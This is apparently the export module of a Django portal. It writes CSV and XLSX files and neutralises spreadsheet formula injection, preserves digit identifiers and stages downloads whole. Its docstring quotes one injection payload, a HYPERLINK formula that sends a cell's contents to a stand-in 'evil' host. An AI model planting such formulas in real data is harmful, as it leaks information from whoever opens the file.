"""Every CSV and XLSX file the portal writes goes through here.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, one that begins
with a tab, a carriage return, a line feed or NUL) as a formula: a name such as ``=HYPERLINK("http://evil/?"&B2,"x")``
typed by an applicant or an anonymous complainant would run on the verifier's or the complaint officer's computer
when they open the export. The same holds when the sign follows spaces or tabs (``" =1+1"``: spreadsheets skip
them) or is a full-width form (``＝``, ``＋``, ``－``, ``＠``). Following OWASP's CSV-injection guidance and ASVS 5 (1.2.10), such a *text* cell is
written with a leading single quote, in CSV and XLSX alike, so that the text stays readable and nothing is evaluated.
Real numbers (``int``, ``float``, ``Decimal``) stay numbers: ``-3`` is data, the text ``"-1+2"`` is not.

Dates and times are written in the portal's time zone (``TIME_ZONE``, Asia/Jakarta, WIB): as real date cells in
XLSX, as ``YYYY-MM-DD`` and ``YYYY-MM-DD HH:MM`` in CSV (readable, and read as dates by every spreadsheet
whatever its locale).

Identifiers written in digits (the 18-digit NIP, the 16-digit NIK, a phone number with its leading 0, a number of
twelve digits or more) are text, not numbers: a spreadsheet would show ``198503142010011001`` as ``1.98503E+17``
and keep only 15 of its digits, and drop the 0 of ``081234567890``. In XLSX they are text cells formatted as text
(``@``); in CSV, which carries no types, they are written after a tab, which Excel and LibreOffice both keep as text
on a double-click (every digit, no quote shown); the tab is not a formula trigger here, since digits follow it.

**A download is whole or it is an error (issue 42).** Both formats are written completely before the first byte is
sent: CSV to a spooled temporary file (memory up to ``CSV_SPOOL`` bytes, then disk), XLSX by openpyxl's write-only
mode to a temporary file. A row that fails (a state without a label, a database error) raises in the view, and
the person gets the error page, never a file cut short that looks complete (a streamed CSV had already sent its
header and a 200 when a row failed: the register looked empty). Nothing holds all rows in memory: callers pass
``queryset.iterator(chunk_size=...)``.

**Every state has a label.** A column that shows a state declares it with :func:`state_column` (or
:func:`choices_column` for a model's choice field): every value the column can hold and the label written for it.
``tests/core/test_export_states.py`` finds every module that writes an export, and walks each declared column's
states, in both languages: a state without a label fails the test, not the download. An export of more rows than ``EXPORT_BACKGROUND_ROWS`` is not made during
the request at all: :mod:`certportal.exportjobs` writes it in a Celery task (same cells, :func:`write_csv` and
:func:`write_xlsx`) and offers the file when it is done.
"""

import csv
import datetime
import decimal
import itertools
import re
import tempfile
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from django.http import FileResponse, Http404
from django.utils import timezone
from django.utils.cache import patch_cache_control
from django.utils.http import content_disposition_header

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# First characters that make a spreadsheet read a text cell as a formula (OWASP; ASVS 1.2.10 adds NUL; a line
# feed is treated like the carriage return it often travels with).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
QUOTE = "'"
SIGNS = ("=", "+", "-", "@")  # after blanks, or as their full-width (compatibility) forms: ＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫

CSV_DATE = "%Y-%m-%d"
CSV_DATETIME = "%Y-%m-%d %H:%M"
XLSX_DATE = "dd/mm/yyyy"
XLSX_DATETIME = "dd/mm/yyyy hh:mm"

# A text of digits that a spreadsheet would turn into a number and spoil: 12 digits or more (shown as 1.2E+11 and
# cut to 15 significant digits), or a leading 0 (dropped). Shorter digit texts ("2026", "12") read the same as numbers.
DIGITS_AS_TEXT = re.compile(r"[0-9]{12,}|0[0-9]+")
CSV_TEXT_MARK = "\t"  # before such digits in CSV: Excel and LibreOffice keep the cell as text
XLSX_TEXT = "@"

CSV_CHUNK = 500  # rows per piece written at a time
CSV_SPOOL = 512 * 1024  # bytes of a CSV kept in memory before it goes to disk

# Column widths (in characters) for XLSX: measured on the first rows, kept between these bounds.
WIDTH_SAMPLE_ROWS = 200
MIN_WIDTH, MAX_WIDTH = 6, 60
# Characters that XML 1.0, and so XLSX, cannot carry (control characters other than tab, LF and CR).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@dataclass
class Sheet:
    """One worksheet: a title (31 characters at most are kept), a header row and the rows, any iterable."""

    title: str
    header: Sequence[Any]
    rows: Iterable[Sequence[Any]]


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it and never evaluates it: a leading quote when it could start a formula,
    also when the sign comes after blanks (``" =1+1"``: spreadsheets skip them) or in its full-width form
    (``＝1+1``, which spreadsheets with East Asian input read as ``=``)."""
    if not text or text.startswith(FORMULA_TRIGGERS):
        return QUOTE + text if text else text
    first = text[0]
    if first.isspace() or first > "\x7f":  # rare: plain ASCII letters and digits leave at once
        rest = text.lstrip()
        if rest and (rest.startswith(FORMULA_TRIGGERS) or unicodedata.normalize("NFKC", rest[0]) in SIGNS):
            return QUOTE + text
    return text


def local(value: datetime.datetime) -> datetime.datetime:
    """A time in the portal's zone, without tzinfo (spreadsheets have no time zones); naive values are kept."""
    if timezone.is_aware(value):
        value = timezone.localtime(value, timezone.get_default_timezone())
    return value.replace(tzinfo=None)


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)


def csv_value(value: Any) -> Any:
    """What one CSV cell holds: numbers as they are, dates in local time, every text neutralised."""
    if type(value) is str:  # the common case first: this runs for every cell of a million-row export
        return CSV_TEXT_MARK + value if DIGITS_AS_TEXT.fullmatch(value) else neutralise(value)
    if value is None:
        return ""
    if _is_number(value):
        return value
    if isinstance(value, datetime.datetime):
        return local(value).strftime(CSV_DATETIME)
    if isinstance(value, datetime.date):
        return value.strftime(CSV_DATE)
    return neutralise(str(value))


def xlsx_value(value: Any) -> Any:
    """What one XLSX cell holds: numbers and local dates as they are, every text neutralised and XML-safe."""
    if value is None or _is_number(value):
        return value
    if isinstance(value, datetime.date):
        return local(value) if isinstance(value, datetime.datetime) else value
    return neutralise(_XML_ILLEGAL.sub("\ufffd", str(value)))


# --- CSV -----------------------------------------------------------------------------------------


class _Echo:
    """The file csv.writer writes to: it hands each formatted line back instead of keeping it."""

    def write(self, line: str) -> str:
        return line


def csv_lines(rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None) -> Iterator[str]:
    """The file in chunks of a few hundred lines: a BOM (Excel reads UTF-8 only with one), the header, the rows
    as they come."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    if header is not None:
        yield writer.writerow([csv_value(v) for v in header])
    rows = iter(rows)
    while chunk := "".join(writer.writerow([csv_value(v) for v in row]) for row in itertools.islice(rows, CSV_CHUNK)):
        yield chunk


def csv_response(filename: str, rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None):
    """A CSV download, written whole before its first byte is sent (to a spooled temporary file, so memory does not
    grow with the rows): a row that fails raises here, in the view, and the person sees the error page instead of a
    file cut short."""
    out = tempfile.SpooledTemporaryFile(max_size=CSV_SPOOL)  # noqa: SIM115 - closed by FileResponse once sent
    try:
        write_csv(out, rows, header)
    except BaseException:
        out.close()
        raise
    out.seek(0)
    return _download(FileResponse(out, content_type=CSV_TYPE), filename)


# --- XLSX ----------------------------------------------------------------------------------------


def write_xlsx(out, sheets: Sequence[Sheet]) -> None:
    """Write the workbook to the binary file ``out`` (rows go through openpyxl's temporary files first)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for sheet in sheets:
        _write_sheet(workbook, sheet)
    workbook.save(out)


def write_form_xlsx(out, sheets: Sequence[Sheet], *, widths: Sequence[Sequence[int]], text_rows: int) -> None:
    """A workbook people fill in (a template): each sheet with a bold header and the given column widths, and the
    first sheet's first column formatted as text, the column and each cell down to line ``text_rows + 1``, so an
    identifier typed on any line keeps its digits (a NIP in Excel). Values are neutralised as in every export."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    workbook.remove(workbook.active)
    for sheet, sizes in zip(sheets, widths, strict=True):
        ws = workbook.create_sheet(_sheet_title(sheet.title))
        ws.append([xlsx_value(v) for v in sheet.header])
        for cell in ws[1]:
            cell.font = Font(bold=True)
        for row in sheet.rows:
            ws.append([xlsx_value(v) for v in row])
        for index, width in enumerate(sizes, start=1):
            ws.column_dimensions[get_column_letter(index)].width = width
        ws.freeze_panes = "A2"
    first = workbook.worksheets[0]
    first.column_dimensions["A"].number_format = XLSX_TEXT
    for line in range(2, text_rows + 2):
        cell = first.cell(row=line, column=1)
        cell.number_format = XLSX_TEXT
        if cell.value is not None:
            cell.data_type = "s"
    workbook.save(out)


def write_csv(out, rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None) -> None:
    """Write the CSV to the binary file ``out`` in chunks (background exports): same cells as a download."""
    for chunk in csv_lines(rows, header):
        out.write(chunk.encode("utf-8"))


def xlsx_response(filename: str, sheets: Sequence[Sheet]):
    """An XLSX download of one or more sheets: bold header, column widths, dates as date cells."""
    # Rows went to openpyxl's temporary files; the finished workbook goes to another one and is sent from disk.
    out = tempfile.TemporaryFile()  # noqa: SIM115 - closed by FileResponse once sent
    write_xlsx(out, sheets)
    out.seek(0)
    return _download(FileResponse(out, as_attachment=True, filename=filename, content_type=XLSX_TYPE), filename)


def _write_sheet(workbook, sheet: Sheet) -> None:
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    ws = workbook.create_sheet(_sheet_title(sheet.title))
    rows = iter(sheet.rows)
    sample = [[xlsx_value(v) for v in row] for row in itertools.islice(rows, WIDTH_SAMPLE_ROWS)]
    header = [xlsx_value(v) for v in sheet.header]
    # Widths must be known before the first row: write-only sheets write their column settings first.
    for index, width in enumerate(_widths([header, *sample]), start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    ws.freeze_panes = "A2"
    ws.append([_header_cell(ws, v, Font(bold=True)) for v in header])
    for row in itertools.chain(sample, ([xlsx_value(v) for v in row] for row in rows)):
        # Plain values are stored by type (a neutralised text never starts with "=", so openpyxl never makes it a
        # formula); only dates and identifiers in digits need a cell object, for their format.
        ws.append([_date_cell(ws, v) if isinstance(v, datetime.date) else
                   _text_cell(ws, v) if type(v) is str and DIGITS_AS_TEXT.fullmatch(v) else v for v in row])


def _header_cell(ws, value: Any, font):
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.font = font
    return cell


def _date_cell(ws, value: datetime.date):
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.number_format = XLSX_DATETIME if isinstance(value, datetime.datetime) else XLSX_DATE
    return cell


def _text_cell(ws, value: str):
    """An identifier in digits as a text cell formatted as text, so that editing it keeps it text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    cell.number_format = XLSX_TEXT
    return cell


def _display_length(value: Any) -> int:
    if isinstance(value, datetime.datetime):
        return len(XLSX_DATETIME)
    if isinstance(value, datetime.date):
        return len(XLSX_DATE)
    if value is None:
        return 0
    return max((len(line) for line in str(value).splitlines()), default=0)


def _widths(rows: list[list[Any]]) -> list[float]:
    columns = max((len(row) for row in rows), default=0)
    longest = [0] * columns
    for row in rows:
        for index, value in enumerate(row):
            longest[index] = max(longest[index], _display_length(value))
    return [min(max(n + 2, MIN_WIDTH), MAX_WIDTH) for n in longest]


def _sheet_title(title: str) -> str:
    # Excel refuses these characters in sheet names and names longer than 31 characters.
    return re.sub(r"[\\/*?:\[\]]", "-", str(title))[:31] or "Sheet"


# --- both ----------------------------------------------------------------------------------------


def table_response(fmt: str, stem: str, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]):
    """One table as ``stem.csv`` or ``stem.xlsx`` (sheet ``title``); any other format is not found."""
    if fmt == "csv":
        return csv_response(f"{stem}.csv", rows, header)
    if fmt == "xlsx":
        return xlsx_response(f"{stem}.xlsx", [Sheet(title, header, rows)])
    raise Http404


def _download(response, filename: str):
    response["Content-Disposition"] = content_disposition_header(True, filename)
    # Exports carry personal data: no shared cache keeps them.
    patch_cache_control(response, private=True, no_store=True)
    return response


# --- columns that show a state -----------------------------------------------------------------


@dataclass(frozen=True)
class StateColumn:
    """A column of an export that shows a state: ``states()`` gives every value it can hold (walked from the status
    field's choices), ``label(value)`` the text written for it."""

    export: str
    column: str
    states: Callable[[], Iterable[Any]]
    label: Callable[[Any], Any]


_STATE_COLUMNS: dict[tuple[str, str], StateColumn] = {}


def state_column(export: str, column: str, *, states: Callable[[], Iterable[Any]],
                 label: Callable[[Any], Any]) -> Callable[[Any], Any]:
    """Declare a column that shows a state; returns what the rows call to label a value. A state with no label is
    written as its code rather than failing the file half-way (the test of every export's states fails instead)."""
    _STATE_COLUMNS[(export, column)] = StateColumn(export, column, states, label)

    def shown(value: Any) -> Any:
        try:
            text = label(value)
        except (KeyError, LookupError):
            text = None
        return value if text in (None, "") else text
    return shown


def choices_column(export: str, column: str, model, field: str) -> Callable[[Any], Any]:
    """A column showing a model's choice field (``get_<field>_display()`` in the rows): its choices walked."""
    f = model._meta.get_field(field)
    return state_column(export, column, states=lambda: [code for code, _label in f.flatchoices],
                        label=lambda code: dict(f.flatchoices).get(code))


def state_columns() -> list[StateColumn]:
    return list(_STATE_COLUMNS.values())
